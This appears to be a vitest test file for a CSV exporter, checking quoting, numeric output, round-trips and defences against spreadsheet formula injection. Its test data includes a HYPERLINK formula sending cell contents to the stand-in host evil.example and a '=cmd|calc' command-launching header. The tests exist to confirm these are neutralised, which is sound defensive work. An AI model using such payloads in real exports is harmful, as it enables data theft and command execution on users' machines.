import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { BOM, formatCell, neutralise, restore, toCsv } from '../../src/lib/export/csv';
import { expectedCells, readCsv as parseCsv } from '../fixtures/csv-reader';
import type { DisplayTable } from '../../src/lib/export/table';

const table = (rows: DisplayTable['rows']): DisplayTable => ({
  columns: [
    { key: 'iso3', label: 'ISO3', type: 'string', countryCode: true },
    { key: 'name', label: 'Country', type: 'string' },
    { key: 'value', label: 'Migrant stock', type: 'number', unit: 'persons' },
  ],
  rows,
});

describe('toCsv', () => {
  it('starts with a UTF-8 BOM, uses CRLF and writes the stable column keys as the header (not the labels)', () => {
    const csv = toCsv(table([{ iso3: 'CIV', name: "Côte d'Ivoire", value: 2_564_857 }]));
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv).toBe(`${BOM}iso3,name,value\r\nCIV,Côte d'Ivoire,2564857\r\n`);
    expect(toCsv(table([]), { bom: false })).toBe('iso3,name,value\r\n');
  });

  it('quotes commas, quotes, newlines and edge whitespace (RFC 4180)', () => {
    const csv = toCsv(
      table([
        { iso3: 'BOL', name: 'Bolivia, Plurinational State of', value: 1 },
        { iso3: 'XXX', name: 'say "hi"', value: 2 },
        { iso3: 'YYY', name: 'two\nlines', value: 3 },
        { iso3: 'ZZZ', name: 'cr\r\nlf', value: 4 },
        { iso3: 'WWW', name: ' padded ', value: 5 },
      ]),
      { bom: false },
    );
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe('BOL,"Bolivia, Plurinational State of",1');
    expect(lines[2]).toBe('XXX,"say ""hi""",2');
    expect(csv).toContain('YYY,"two\nlines",3');
    expect(csv).toContain('ZZZ,"cr\r\nlf",4');
    expect(csv).toContain('WWW," padded ",5');
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('neutralises a text cell starting with %j', (prefix) => {
    const evil = `${prefix}HYPERLINK("http://evil.example/?x="&A1,"click")`;
    const csv = toCsv(table([{ iso3: 'AAA', name: evil, value: 1 }]), { bom: false });
    const cells = parseCsv(csv)[1];
    expect(cells[1]).toBe(`'${evil}`);
    expect(cells[1].startsWith("'")).toBe(true);
    // and the original text is recoverable
    expect(parseCsv(csv, { restore: true })[1][1]).toBe(evil);
  });

  it('neutralises dangerous headers too', () => {
    const t: DisplayTable = { columns: [{ key: '=cmd|calc', label: 'a', type: 'string' }], rows: [] };
    expect(toCsv(t, { bom: false })).toBe("'=cmd|calc\r\n");
  });

  it('keeps numbers numbers: negatives, decimals, exponents unquoted and unprefixed', () => {
    const t: DisplayTable = {
      columns: [
        { key: 'cost', label: 'Cost', type: 'number', unit: '%' },
        { key: 'text', label: 'Text', type: 'number' },
      ],
      rows: [
        { cost: -0.52, text: '-3.5' },
        { cost: 6.123456789012345, text: '1e-7' },
        { cost: 1e21, text: null },
        { cost: -0, text: '-1+1' },
        { cost: Number.NaN, text: '' },
      ],
    };
    const lines = toCsv(t, { bom: false }).split('\r\n');
    expect(lines[1]).toBe('-0.52,-3.5');
    expect(lines[2]).toBe('6.123456789012345,1e-7');
    expect(lines[3]).toBe('1e+21,');
    // numeric-looking text that is NOT a number is still neutralised
    expect(lines[4]).toBe("0,'-1+1");
    expect(lines[5]).toBe(',');
    expect(Number(parseCsv(lines[1])[0][0])).toBe(-0.52);
  });

  it('writes values unrounded', () => {
    expect(formatCell(0.1 + 0.2, 'number')).toBe('0.30000000000000004');
    expect(formatCell(304_021_813, 'number')).toBe('304021813');
  });

  it('round-trips exactly what the table shows', () => {
    const t = table([
      { iso3: 'MEX', name: 'Mexico', value: 11_613_487 },
      { iso3: 'TUR', name: 'Türkiye', value: -1.5 },
      { iso3: 'XKX', name: null, value: null },
      { iso3: 'EVL', name: '=1+1', value: 0 },
      { iso3: 'Q', name: "'=already quoted", value: 2 },
    ]);
    expect(parseCsv(toCsv(t), { restore: true })).toEqual(expectedCells(t));
  });
});

describe('neutralise / restore', () => {
  it('is reversible on every string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (s) => {
        expect(restore(neutralise(s))).toBe(s);
      }),
    );
    expect(neutralise("'=x")).toBe("''=x");
    expect(neutralise('plain')).toBe('plain');
  });
});

describe('the independent test reader', () => {
  it('accepts LF line ends and a missing final line end', () => {
    expect(parseCsv('a,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(parseCsv('"a"\r\n""\r\n')).toEqual([['a'], ['']]);
  });
});

describe('property: parseCsv(toCsv(t)) equals the displayed data', () => {
  // Text from a mix of plain characters and everything that needs care in CSV.
  const nasty = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', '"', ',', "'", ' ', ';', 'é', '漢', '😀');
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.array(fc.oneof(nasty, fc.string({ maxLength: 3 })), { maxLength: 8 }).map((a) => a.join('')),
  );
  const num = fc.oneof(
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer({ min: -1e12, max: 1e12 }),
  );
  const row = fc.record({ a: fc.option(text), n: fc.option(num), d: fc.option(fc.constantFrom('2012-06-30', '2024Q1')) });

  it('holds for random strings and numbers', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 20 }), text, (rows, label) => {
        const t: DisplayTable = {
          columns: [
            { key: 'a', label: label || 'a', type: 'string' },
            { key: 'n', label: 'n', type: 'number', unit: 'US$' },
            { key: 'd', label: 'date', type: 'date' },
          ],
          rows,
        };
        const csv = toCsv(t);
        const parsed = parseCsv(csv, { restore: true });
        expect(parsed).toEqual(expectedCells(t));
        // numbers read back as the same numbers
        parsed.slice(1).forEach((cells, i) => {
          const n = rows[i].n;
          if (n !== null) expect(Number(cells[1])).toBe(Object.is(n, -0) ? 0 : n);
        });
        // and no raw cell (as a spreadsheet sees it) starts a formula, except numbers
        for (const cells of parseCsv(csv).slice(1)) {
          expect(/^[=+@\t\r]/.test(cells[0]) || (cells[0].startsWith('-') && Number.isNaN(Number(cells[0])))).toBe(false);
        }
      }),
      { numRuns: 300 },
    );
  });
});
